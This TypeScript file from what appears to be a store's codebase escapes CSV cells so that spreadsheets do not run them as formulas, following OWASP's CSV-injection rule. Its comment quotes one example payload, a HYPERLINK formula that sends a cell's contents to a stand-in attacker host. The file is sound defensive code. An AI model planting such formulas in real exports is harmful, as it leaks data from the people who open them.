/**
 * CSV files the store writes are opened in spreadsheets, which read a cell that begins with `=`,
 * `+`, `-` or `@` as a formula (and tab or carriage return as a way to smuggle one in): a customer
 * named `=HYPERLINK("https://evil.example/?"&A1,"Click")` would run in the shop owner's
 * spreadsheet. OWASP's rule for CSV injection: such a cell is written with a leading apostrophe,
 * which spreadsheets show as text and do not print. Every CSV the store writes goes through it
 * (docs/command-line.md, "export-orders").
 */
const FORMULA_START = /^[=+\-@\t\r]/;

export function spreadsheetSafeCell(value: string): string {
  return FORMULA_START.test(value) ? `'${value}` : value;
}

export function spreadsheetSafeRecord(cells: readonly string[]): string[] {
  return cells.map(spreadsheetSafeCell);
}
